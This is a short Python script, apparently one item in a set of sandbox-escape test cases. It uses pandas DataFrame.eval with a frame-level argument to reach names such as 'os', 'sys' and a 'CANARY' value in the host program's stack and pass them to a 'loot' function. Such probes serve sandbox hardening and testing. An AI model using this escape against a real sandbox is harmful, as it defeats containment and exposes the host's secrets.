# aim: look names up in the frames of the host
# mechanism: DataFrame.eval takes the number of frames to go back
# language: builtins
# reason: names in evaluated text are the program's own
# jail: process
# plain: loot
# imports: pandas

import pandas

table = pandas.DataFrame({"a": [1]})
for level in range(40):
    for name in ("sys", "os", "collections", "traceback", "types", "threading", "CANARY"):
        try:
            loot(table.eval("@" + name, level=level))
        except Exception:
            pass
